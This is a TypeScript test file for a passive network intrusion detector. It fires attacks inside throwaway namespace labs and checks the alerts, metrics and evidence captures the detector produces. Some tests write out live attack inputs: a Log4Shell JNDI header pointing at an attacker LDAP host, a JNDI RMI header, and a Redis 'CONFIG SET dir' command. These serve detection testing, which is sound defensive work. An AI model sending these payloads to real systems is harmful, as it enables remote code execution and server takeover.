// `lateral watch` live, as a child process on two real namespace labs (`scripts/lab up`), with
// the repo's rules/lateral.rules: an attack from the attacker namespace raises its EVE alert
// (allowed, and the attack indeed succeeds), with the lab's container names and an evidence
// pcap that tcpdump reads; normal traffic raises none; a second bridge is watched too;
// /metrics and /api/map count it; a signal stops it with final totals; bad flags exit 2 with
// a clear message. Needs root.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { execFile, spawn, type ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import { repoRoot } from '../support/corpus';

const test = suite('watch (live lab)');

interface Lab {
  name: string;
  bridge: string;
  namespaces: Record<'web' | 'db' | 'attacker', { netns: string; ip: string }>;
  services: { http: string; redis: string };
}

interface Result {
  code: number;
  stdout: string;
  stderr: string;
}

const MAIN = path.join(repoRoot, 'dist', 'src', 'cli', 'main.js');
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function sh(cmd: string, args: readonly string[], timeoutMs = 20000): Promise<Result> {
  return new Promise((resolve) => {
    execFile(cmd, args, { timeout: timeoutMs, killSignal: 'SIGKILL', maxBuffer: 16 << 20 }, (err, stdout, stderr) => {
      const code = err ? (typeof (err as { code?: unknown }).code === 'number' ? (err as { code: number }).code : 124) : 0;
      resolve({ code, stdout: String(stdout), stderr: String(stderr) });
    });
  });
}

const inNs = (lab: Lab, role: 'web' | 'db' | 'attacker', cmd: string, args: readonly string[]): Promise<Result> =>
  sh('ip', ['netns', 'exec', lab.namespaces[role].netns, 'timeout', '8', cmd, ...args], 15000);

function httpGet(url: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    }).on('error', reject);
  });
}

const uniqueName = (): string => ('w4' + process.pid.toString(36) + Math.floor(Math.random() * 46656).toString(36)).slice(0, 8);
const labNames: string[] = [];
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'lateral-watch-live-'));
const evePath = path.join(tmp, 'eve.json');
const evidenceDir = path.join(tmp, 'evidence');
const layoutPath = path.join(tmp, 'layout.json');
let lab: Lab | null = null;
/** A second lab whose addresses are not in the containers file. */
let labB: Lab | null = null;
let child: ChildProcess | null = null;
let stderr = '';
let exited: Promise<number | null> = Promise.resolve(null);

function eveRecords(): Array<Record<string, any>> {
  if (!fs.existsSync(evePath)) return [];
  return fs.readFileSync(evePath, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, any>);
}
const alerts = (): Array<Record<string, any>> => eveRecords().filter((r) => r.event_type === 'alert');

async function waitFor<T>(what: string, fn: () => T | undefined | null | false, timeoutMs = 8000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = fn();
    if (v) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}; lateral stderr:\n${stderr}`);
    await sleep(100);
  }
}

/** The value of `key=` in the last summary/final line. */
function counter(key: string, label = ''): number {
  const lines = stderr.split('\n').filter((l) => l.includes(' packets=') && l.includes(label));
  const m = new RegExp(`\\b${key}=(\\d+)`).exec(lines[lines.length - 1] ?? '');
  return m ? Number(m[1]) : NaN;
}

async function labUp(): Promise<{ lab: Lab; json: string }> {
  const name = uniqueName();
  labNames.push(name);
  const up = await sh(path.join(repoRoot, 'scripts', 'lab'), ['up', '--name', name], 60000);
  if (up.code !== 0) throw new Error(`lab up failed: ${up.stderr}`);
  const json = up.stdout.trim().split('\n').pop()!;
  return { lab: JSON.parse(json) as Lab & { subnet: string }, json };
}

test.before(async () => {
  const a = await labUp();
  lab = a.lab;
  fs.writeFileSync(layoutPath, a.json);
  // The lab picks its subnet from a hash of the name: make sure B's differs from A's.
  for (let i = 0; i < 5 && labB === null; i++) {
    const b = await labUp();
    if ((b.lab as Lab & { subnet: string }).subnet !== (a.lab as Lab & { subnet: string }).subnet) labB = b.lab;
  }
  if (labB === null) throw new Error('no second lab with a distinct subnet');
});

test.after(async () => {
  try {
    if (child && child.exitCode === null && child.signalCode === null) {
      child.kill('SIGKILL');
      await exited;
    }
  } finally {
    for (const name of labNames) await sh(path.join(repoRoot, 'scripts', 'lab'), ['down', '--name', name], 60000);
    fs.rmSync(tmp, { recursive: true, force: true });
  }
});

test('watch starts on both lab bridges with the default rules and serves /metrics', async () => {
  const l = lab!;
  child = spawn(process.execPath, [
    MAIN, 'watch', '--bridge', l.bridge, '--bridge', labB!.bridge, '--eve', evePath, '--containers', layoutPath, '--evidence-dir', evidenceDir,
    '--metrics-listen', '127.0.0.1:0', '--summary-interval', '1', '--stats-interval', '1',
  ], { stdio: ['ignore', 'ignore', 'pipe'] });
  const c = child;
  exited = new Promise((resolve) => c.once('exit', (code) => resolve(code)));
  c.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
  await waitFor('the watching line', () => stderr.includes('lateral watch: watching') || c.exitCode !== null);
  assert.is(c.exitCode, null, stderr);
  assert.match(stderr, new RegExp(`watching ${l.bridge},${labB!.bridge} \\(passive copy, nothing blocked\\); rules ${lateralRuleCount()} loaded, 0 skipped; containers 3`));
  const m = /metrics (http:\/\/127\.0\.0\.1:\d+)\/metrics/.exec(stderr);
  assert.ok(m, stderr);
  metricsBase = m![1]!;
  const r = await httpGet(`${metricsBase}/metrics`);
  assert.is(r.status, 200);
  assert.match(r.body, new RegExp(`lateral_rules_loaded ${lateralRuleCount()}\\n`));
});
let metricsBase = '';

test('normal traffic (HTTP GET, Redis PING/SET/GET) raises no alert and is counted', async () => {
  const l = lab!;
  const before = counter('packets');
  const page = await inNs(l, 'attacker', 'curl', ['-s', '--max-time', '5', `http://${l.services.http}/`]);
  assert.is(page.code, 0, page.stderr);
  assert.match(page.stdout, /lateral lab web/);
  const [host, port] = l.services.redis.split(':') as [string, string];
  const ping = await inNs(l, 'attacker', 'redis-cli', ['-h', host, '-p', port, 'PING']);
  assert.is(ping.stdout.trim(), 'PONG');
  await inNs(l, 'web', 'redis-cli', ['-h', host, '-p', port, 'SET', 'greeting', 'hello']);
  const get = await inNs(l, 'web', 'redis-cli', ['-h', host, '-p', port, 'GET', 'greeting']);
  assert.is(get.stdout.trim(), 'hello');
  // 4 TCP connections of >= 7 frames each; wait until the summary shows them inspected.
  await waitFor('the normal traffic in the summary', () => counter('packets') >= (Number.isNaN(before) ? 0 : before) + 28);
  await sleep(300);
  assert.equal(alerts(), [], 'no alert for normal traffic');
});

test('a Log4Shell request from the attacker: it succeeds, and the EVE alert has sid 1800040, allowed, names and an evidence pcap', async () => {
  const l = lab!;
  const attack = await inNs(l, 'attacker', 'curl', [
    '-s', '--max-time', '5', '-w', '\n%{http_code}', '-H', `X-Api-Version: \${jndi:ldap://${l.namespaces.attacker.ip}:1389/Exploit}`, `http://${l.services.http}/`,
  ]);
  assert.is(attack.code, 0, attack.stderr);
  assert.match(attack.stdout, /lateral lab web[\s\S]*\n200$/, 'watch never blocks: the server answered 200');

  const alert = await waitFor('the EVE alert', () => alerts().find((a) => a.alert.signature_id === 1800040));
  assert.is(alert.alert.action, 'allowed');
  assert.is(alert.alert.signature, 'LATERAL Log4Shell JNDI lookup between containers');
  assert.is(alert.src_ip, l.namespaces.attacker.ip);
  assert.is(alert.dest_ip, l.namespaces.web.ip);
  assert.is(alert.dest_port, 80);
  assert.is(alert.app_proto, 'http');
  assert.equal(alert.src_container, { name: 'attacker', network: l.bridge });
  assert.equal(alert.dest_container, { name: 'web', network: l.bridge });
  assert.is(alerts().length, 1, JSON.stringify(alerts()));

  const file = path.join(evidenceDir, alert.evidence.pcap as string);
  assert.match(alert.evidence.pcap, new RegExp(`^flow-${alert.flow_id}_.*_sid-1800040\\.pcap$`));
  await waitFor('the evidence file', () => fs.existsSync(file));
  const read = await sh('tcpdump', ['-nn', '-A', '-r', file]);
  assert.is(read.code, 0, read.stderr);
  assert.match(read.stderr, /link-type EN10MB/);
  assert.match(read.stdout, new RegExp(`${l.namespaces.attacker.ip.replace(/\./g, '\\.')}\\.\\d+ > ${l.namespaces.web.ip.replace(/\./g, '\\.')}\\.80: Flags \\[S\\]`), 'the handshake is in it');
  assert.ok(read.stdout.includes('X-Api-Version: ${jndi:ldap://'), 'the attack bytes are in it');
});

test('a Redis CONFIG SET dir from the attacker raises sid 1800030; the connection is not touched', async () => {
  const l = lab!;
  const [host, port] = l.services.redis.split(':') as [string, string];
  // Redis 7 refuses `dir` (a protected config) on its own; what matters here is that the
  // request reached it and was answered while watch only looked.
  const r = await inNs(l, 'attacker', 'redis-cli', ['-h', host, '-p', port, 'CONFIG', 'SET', 'dir', '/tmp']);
  assert.is(r.code, 0, r.stderr);
  assert.ok(r.stdout.trim() === 'OK' || /protected config/.test(r.stdout), r.stdout);
  const alert = await waitFor('the Redis alert', () => alerts().find((a) => a.alert.signature_id === 1800030));
  assert.is(alert.alert.action, 'allowed');
  assert.equal(alert.src_container.name, 'attacker');
  assert.equal(alert.dest_container.name, 'db');
  assert.is(alert.dest_port, 6379);
  assert.ok(typeof alert.evidence?.pcap === 'string');
});

test('the second bridge is watched too; addresses not in the containers file are "unknown"', async () => {
  const b = labB!;
  const attack = await inNs(b, 'attacker', 'curl', ['-s', '--max-time', '5', '-o', '/dev/null', '-w', '%{http_code}', '-H', 'User-Agent: ${jndi:rmi://x/y}', `http://${b.services.http}/`]);
  assert.is(attack.stdout, '200');
  const alert = await waitFor('the alert on the second bridge', () => alerts().find((a) => a.alert.signature_id === 1800040 && a.dest_ip === b.namespaces.web.ip));
  assert.is(alert.src_ip, b.namespaces.attacker.ip);
  assert.equal(alert.src_container, { name: 'unknown' });
  assert.equal(alert.dest_container, { name: 'unknown' });
  assert.is(alert.alert.action, 'allowed');
  assert.ok(typeof alert.evidence?.pcap === 'string');
});

test('/metrics counts the packets and the alerts; /api/map has the pair and the alerts', async () => {
  const l = lab!;
  // Capture counters are read at scrape time, engine counters folded in once a second: a
  // stray frame (neighbour discovery) can sit between the two, so scrape until they agree.
  let body = '';
  const value = (re: RegExp): number => {
    const m = re.exec(body);
    return m ? Number(m[1]) : NaN;
  };
  let captured = NaN;
  let capturedB = NaN;
  let judged = NaN;
  for (let i = 0; i < 6 && !(judged === captured + capturedB); i++) {
    await sleep(1100);
    body = (await httpGet(`${metricsBase}/metrics`)).body;
    captured = value(new RegExp(`lateral_capture_packets_total\\{interface="${l.bridge}"\\} (\\d+)`));
    capturedB = value(new RegExp(`lateral_capture_packets_total\\{interface="${labB!.bridge}"\\} (\\d+)`));
    judged = value(/lateral_packets_total\{verdict="accept"\} (\d+)/);
  }
  assert.ok(captured >= 40, body);
  assert.ok(capturedB >= 8, body);
  assert.is(judged, captured + capturedB, 'every captured frame went through the engine');
  assert.is(value(/lateral_packets_total\{verdict="drop"\} (\d+)/), 0);
  assert.is(value(/lateral_alerts_total\{sid="1800040",action="allowed",severity="1"\} (\d+)/), 2);
  assert.is(value(/lateral_alerts_total\{sid="1800030",action="allowed",severity="1"\} (\d+)/), 1);
  assert.ok(value(/lateral_pair_packets_total\{src_container="attacker",dest_container="web",app_proto="http"\} (\d+)/) > 0, body);
  assert.ok(value(/lateral_pair_packets_total\{src_container="attacker",dest_container="db",app_proto="[a-z]*"\} (\d+)/) > 0, body);
  assert.ok(value(/lateral_flows_created_total (\d+)/) >= 6);
  assert.is(value(new RegExp(`lateral_capture_kernel_dropped_total\\{interface="${l.bridge}"\\} (\\d+)`)), 0);
  const map = JSON.parse((await httpGet(`${metricsBase}/api/map`)).body) as { edges: Array<{ src: string; dst: string; packets: number }>; alerts: Array<{ sid: number; action: string }> };
  assert.ok(map.edges.some((e) => e.src === 'attacker' && e.dst === 'web' && e.packets > 0), JSON.stringify(map.edges));
  assert.equal(map.alerts.map((a) => a.sid).sort(), [1800030, 1800040, 1800040]);
  assert.ok(map.alerts.every((a) => a.action === 'allowed'));
});

test('SIGTERM: clean stop, a final summary and a final EVE stats record with the totals', async () => {
  const c = child!;
  c.kill('SIGTERM');
  const code = await Promise.race([exited, sleep(10000).then(() => 'timeout' as const)]);
  assert.is(code, 0, stderr);
  assert.match(stderr, /lateral watch: SIGTERM: stopping\n/);
  assert.match(stderr, /lateral watch: final packets=\d+ /);
  const packets = counter('packets', 'final');
  assert.ok(packets >= 40);
  assert.is(counter('alerts', 'final'), 3);
  assert.is(counter('evidence_files', 'final'), 3);
  assert.is(counter('handler_errors', 'final'), 0);
  const records = eveRecords();
  const last = records[records.length - 1]!;
  assert.is(last.event_type, 'stats');
  assert.is(last.stats.capture.kernel_packets, packets);
  assert.is(last.stats.decoder.pkts, packets);
  assert.is(last.stats.detect.alert, 3);
  assert.is(last.stats.flow.active, 0, 'flows ended at shutdown');
  assert.ok(records.filter((r) => r.event_type === 'stats').length >= 2, 'periodic stats records too');
});

test('bad flags and inputs exit 2 (usage) or 1 (bad file) with a clear message and code', async () => {
  const l = lab!;
  const run = (args: string[]): Promise<Result> => sh(process.execPath, [MAIN, 'watch', ...args], 20000);
  const cases: Array<[string[], number, RegExp]> = [
    [[], 2, /watch: no bridge given \(--bridge BR.*\[LATERAL_ERR_USAGE\]/],
    [['--bridge', 'w4nosuch0'], 2, /watch: --bridge w4nosuch0: no such interface.*\[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--bogus'], 2, /watch: unknown flag --bogus.*\[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--eve'], 2, /watch: --eve needs a value \[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--metrics-listen', 'nowhere'], 2, /--metrics-listen: expected HOST:PORT.*\[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--rules', path.join(tmp, 'none.rules')], 2, /watch: --rules .*none\.rules: no such file \[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--summary-interval', 'soon'], 2, /watch: --summary-interval expects a number, got "soon" \[LATERAL_ERR_USAGE\]/],
    [['--bridge', l.bridge, '--bridge', l.bridge], 2, /--bridge .* given twice/],
    [['--bridge', l.bridge, 'extra'], 2, /unexpected argument "extra"/],
    [['--bridge', l.bridge, '--filter', 'tcp port banana'], 2, /bad capture filter "tcp port banana".*\[LATERAL_ERR_USAGE\]/],
  ];
  fs.writeFileSync(path.join(tmp, 'bad.rules'), 'alert tcp any any -> any 80 (msg:"ok"; sid:1;)\nalert tcp any any -> any 80 (msg:"broken"; content:"x"; sid:2\n');
  fs.writeFileSync(path.join(tmp, 'bad.json'), '{"namespaces":{"web":{"ip":"not-an-ip"}}}');
  cases.push([['--bridge', l.bridge, '--rules', path.join(tmp, 'bad.rules')], 1, /bad\.rules:2: .*\[LATERAL_ERR_RULE_PARSE\]/]);
  cases.push([['--bridge', l.bridge, '--containers', path.join(tmp, 'bad.json')], 1, /bad\.json: --containers: namespaces\.web\.ip: not an IP address.*\[LATERAL_ERR_CONFIG\]/]);
  for (const [args, code, message] of cases) {
    const r = await run(args);
    assert.is(r.code, code, `${args.join(' ')}: ${r.stderr}`);
    assert.match(r.stderr, message, `${args.join(' ')}: ${r.stderr}`);
  }
});

/** Rules in the repo's rules/lateral.rules (every one loads), counted independently of the loader. */
function lateralRuleCount(): number {
  const text = fs.readFileSync(path.join(repoRoot, 'rules', 'lateral.rules'), 'utf8');
  return text.split('\n').filter((l) => /^\s*(alert|drop|pass|reject)\s/.test(l)).length;
}

test.run();
